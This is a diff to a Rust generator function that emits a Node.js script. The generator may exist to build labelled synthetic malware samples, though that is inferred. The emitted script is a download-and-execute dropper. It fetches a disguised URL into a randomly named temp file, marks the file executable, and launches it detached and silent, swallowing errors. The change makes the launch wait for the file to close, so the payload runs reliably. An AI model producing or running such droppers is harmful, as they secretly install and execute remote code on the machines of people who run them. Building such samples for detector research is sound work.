@@ -29,7 +29,7 @@ fn node_file(dice: &mut Dice, truth: &mut Truth) -> String {
     let (before, word) = hidden(dice, &url, true);
     let file = dice.name();
     format!(
-        "const fs = require(«fs»);\nconst os = require(«os»);\nconst path = require(«path»);\nconst web = require(«{}»);\nconst {{ spawn }} = require(«child_process»);\n{before}const target = path.join(os.tmpdir(), «{file}.bin»);\nconst out = fs.createWriteStream(target);\nweb.get({word}, (res) => {{\n  res.pipe(out);\n  out.on('finish', () => {{\n    out.close();\n    fs.chmodSync(target, 0o755);\n    spawn(target, [], {{ detached: true, stdio: 'ignore' }}).unref();\n  }});\n}}).on('error', () => {{}});\n",
+        "const fs = require(«fs»);\nconst os = require(«os»);\nconst path = require(«path»);\nconst web = require(«{}»);\nconst {{ spawn }} = require(«child_process»);\n{before}const target = path.join(os.tmpdir(), «{file}.bin»);\nconst out = fs.createWriteStream(target);\nweb.get({word}, (res) => {{\n  res.pipe(out);\n  out.on('finish', () => {{\n    out.close(() => {{\n      fs.chmodSync(target, 0o755);\n      spawn(target, [], {{ detached: true, stdio: 'ignore' }}).unref();\n    }});\n  }});\n}}).on('error', () => {{}});\n",
         scheme(&url)
     )
 }
